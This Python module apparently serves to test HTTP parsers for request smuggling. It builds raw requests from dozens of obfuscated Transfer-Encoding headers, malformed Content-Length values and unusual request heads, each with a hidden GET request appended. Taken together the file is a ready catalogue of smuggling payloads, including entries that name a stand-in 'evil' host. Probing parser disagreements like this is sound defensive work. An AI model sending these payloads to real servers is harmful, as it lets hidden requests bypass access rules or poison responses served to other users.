"""Requests that two parsers in a row could read differently, each with a hidden one behind it.

A shape is what an attacker sends on one connection: a front that reads one request where a back
reads two would let the hidden one past its rules, or answer it to the next client.
"""

HIDDEN_TARGET = "/v1/banks?q=hidden"
HIDDEN = f"GET {HIDDEN_TARGET} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
CHUNKED = b"0\r\n\r\n"
POST = b"POST /callbacks/nobody HTTP/1.1\r\nHost: localhost\r\n"
GET = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"

# How a coding is hidden from one of two parsers.
CODINGS = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "no space": b"Transfer-Encoding:chunked\r\n",
    "tab before": b"Transfer-Encoding:\tchunked\r\n",
    "tab behind": b"Transfer-Encoding: chunked\t\r\n",
    "space before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab before the colon": b"Transfer-Encoding\t: chunked\r\n",
    "space first": b" Transfer-Encoding: chunked\r\n",
    "folded value": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded with a tab": b"Transfer-Encoding:\r\n\tchunked\r\n",
    "behind a folded line": b"X-A: b\r\n Transfer-Encoding: chunked\r\n",
    "another case": b"tRANSFER-eNCODING: cHUNKED\r\n",
    "unknown": b"Transfer-Encoding: xchunked\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "comma before": b"Transfer-Encoding: ,chunked\r\n",
    "comma behind": b"Transfer-Encoding: chunked,\r\n",
    "identity too": b"Transfer-Encoding: chunked, identity\r\n",
    "identity first": b"Transfer-Encoding: identity, chunked\r\n",
    "gzip first": b"Transfer-Encoding: gzip, chunked\r\n",
    "two lines, bad last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    "two lines, bad first": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "with a parameter": b"Transfer-Encoding: chunked;a=b\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "NUL behind": b"Transfer-Encoding: chunked\x00\r\n",
    "NUL in the name": b"Transfer-Encodin\x00g: chunked\r\n",
    "high byte before": b"Transfer-Encoding: \xa0chunked\r\n",
    "after a bare line feed": b"X-A: b\nTransfer-Encoding: chunked\r\n",
    "after a bare carriage return": b"X-A: b\rTransfer-Encoding: chunked\r\n",
    "carriage return before": b"\rTransfer-Encoding: chunked\r\n",
    "line feed ends it": b"Transfer-Encoding: chunked\n",
    "empty": b"Transfer-Encoding:\r\n",
}

# How a length is read as another: the body is 5 bytes, what follows is hidden.
LENGTHS = {
    "two that differ": b"Content-Length: 5\r\nContent-Length: 0\r\n",
    "two alike": b"Content-Length: 5\r\nContent-Length: 5\r\n",
    "a list": b"Content-Length: 5, 5\r\n",
    "a plus": b"Content-Length: +5\r\n",
    "a minus": b"Content-Length: -5\r\n",
    "a minus zero": b"Content-Length: -0\r\n",
    "hexadecimal": b"Content-Length: 0x5\r\n",
    "octal and more": b"Content-Length: 05 5\r\n",
    "a fraction": b"Content-Length: 5.0\r\n",
    "an exponent": b"Content-Length: 5e0\r\n",
    "a unit": b"Content-Length: 5b\r\n",
    "a quote": b'Content-Length: "5"\r\n',
    "empty": b"Content-Length: \r\n",
    "beyond 64 bits": b"Content-Length: 18446744073709551621\r\n",
    "a space before the colon": b"Content-Length : 5\r\n",
    "folded": b"Content-Length:\r\n 5\r\n",
    "a NUL behind": b"Content-Length: 5\x00\r\n",
    "a line feed ends it": b"Content-Length: 5\n",
    "a carriage return in it": b"Content-Length: 5\r0\r\n",
    "a vertical tab before the colon": b"Content-Length: 5\r\nContent-Length\x0b: 0\r\n",
}

# Whole heads that one parser ends or begins elsewhere.
HEADS = {
    "GET with a body": GET + b"Content-Length: %d\r\n\r\n" % len(HIDDEN),
    "GET with chunks": GET + b"Transfer-Encoding: chunked\r\n\r\n" + CHUNKED,
    "expecting a word": POST + b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "upgrade to h2c": GET + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                            b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "an empty line first": b"\r\n" + GET + b"\r\n",
    "a head of line feeds": GET.replace(b"\r\n", b"\n") + b"\n",
    "a head ended by line feeds": GET[:-2] + b"\n\n",
    "HTTP/1.0 that stays": GET.replace(b"1.1", b"1.0") + b"Connection: keep-alive\r\n\r\n",
    "HTTP/0.9": b"GET /healthz\r\n\r\n",
    "HTTP/1.2": GET.replace(b"1.1", b"1.2") + b"\r\n",
    "HTTP/1.1 twice": GET.replace(b" HTTP/1.1", b" HTTP/1.1 HTTP/1.1") + b"\r\n",
    "a tab for a space": GET.replace(b"GET ", b"GET\t") + b"\r\n",
    "two spaces": GET.replace(b"GET ", b"GET  ") + b"\r\n",
    "a line feed in the target": GET.replace(b"/healthz", b"/healthz\n") + b"\r\n",
    "a carriage return in the target": GET.replace(b"/healthz", b"/health\rz") + b"\r\n",
    "an absolute target": GET.replace(b"/healthz", b"http://localhost/healthz") + b"\r\n",
    "an absolute target of another": GET.replace(b"/healthz", b"http://evil/healthz") + b"\r\n",
    "two hosts": GET + b"Host: evil\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "a name with a space": GET + b"X A: b\r\n\r\n",
    "a line without a colon": GET + b"nonsense\r\n\r\n",
    "an empty name": GET + b": b\r\n\r\n",
    "a tunnel": b"CONNECT localhost:80 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "the HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
}


def shapes():
    """(name, bytes) of every shape."""
    for name, line in CODINGS.items():
        body = CHUNKED + HIDDEN
        yield f"length and coding: {name}", (
            POST + b"Content-Length: %d\r\n" % len(body) + line + b"\r\n" + body)
        yield f"coding alone: {name}", POST + line + b"\r\n" + CHUNKED + HIDDEN
    for name, line in LENGTHS.items():
        yield f"length: {name}", POST + line + b"\r\n" + b"hello" + HIDDEN
    for name, head in HEADS.items():
        yield f"head: {name}", head + HIDDEN
